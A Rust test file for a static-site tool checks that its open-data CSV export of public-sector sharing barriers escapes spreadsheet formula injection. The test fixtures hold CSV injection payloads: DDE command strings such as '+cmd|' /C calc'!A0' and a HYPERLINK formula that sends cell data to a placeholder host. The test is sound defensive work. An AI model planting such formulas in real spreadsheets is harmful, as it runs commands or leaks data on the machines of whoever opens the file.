//! Text that tries to pass for something else in what others open (issue 11): spreadsheet
//! formulas in CSV, forged headings in the pull-request summary, terminal escapes in `check`'s
//! report, files `deling new` writes outside the repository, and configuration URLs that send
//! links elsewhere. Each test is named after the problem it guards against.

use crate::harness::Fixture;
use std::process::Output;

const BARRIER: &str = "content/nettverk/digi-vestland/hindringer/deling-av-opplysningar.md";

fn stdout(run: &Output) -> String {
    String::from_utf8_lossy(&run.stdout).into_owned()
}

fn stderr(run: &Output) -> String {
    String::from_utf8_lossy(&run.stderr).into_owned()
}

/// A TOML basic string holding `text`, with the escapes TOML needs.
fn toml_string(text: &str) -> String {
    toml::Value::String(text.to_string()).to_string()
}

// --- Spreadsheet formulas in the open-data CSV ---

#[test]
fn csv_cells_cannot_start_a_spreadsheet_formula() {
    let fixture = Fixture::new("minimal");
    let title = "=HYPERLINK(\"http://x/?d=\"&A1;\"klikk\")";
    let agency = "+cmd|' /C calc'!A0";
    let law = "@SUM(1+1)*cmd|' /C calc'!A0";
    let network = "-2+3+cmd|' /C calc'!A0";
    fixture.edit(
        BARRIER,
        "title = \"Deling av opplysningar mellom tenester\"",
        &format!(
            "title = {}\nagency = {}",
            toml_string(title),
            toml_string(agency)
        ),
    );
    fixture.edit(
        BARRIER,
        "law = \"Forvaltningsloven\"",
        &format!("law = {}", toml_string(law)),
    );
    fixture.edit(
        "content/nettverk/digi-vestland/index.md",
        "name = \"Digi Vestland\"",
        &format!("name = {}", toml_string(network)),
    );
    let run = fixture.run(&["build"]);
    assert!(run.status.success(), "{}{}", stdout(&run), stderr(&run));

    let csv = std::fs::read(fixture.root().join("public/data/hindringer.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_slice());
    let headers = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let row = rows
        .iter()
        .find(|r| r.get(0) == Some("hindringer/deling-av-opplysningar"))
        .expect("the barrier is in the CSV");
    let column = |name: &str| {
        let i = headers.iter().position(|h| h == name).unwrap();
        row.get(i).unwrap().to_string()
    };
    // The text is kept, as text: a spreadsheet shows it and runs nothing.
    assert_eq!(column("tittel"), format!("'{title}"));
    assert_eq!(column("etat"), format!("'{agency}"));
    assert_eq!(
        column("lovhenvisninger"),
        format!("'{law} § 13 <https://lovdata.no/lov/1967-02-10/§13>")
    );
    assert_eq!(column("nettverk"), format!("'{network}"));
    for record in std::iter::once(&headers).chain(&rows) {
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell starts a formula: {cell:?}"
            );
        }
    }
}
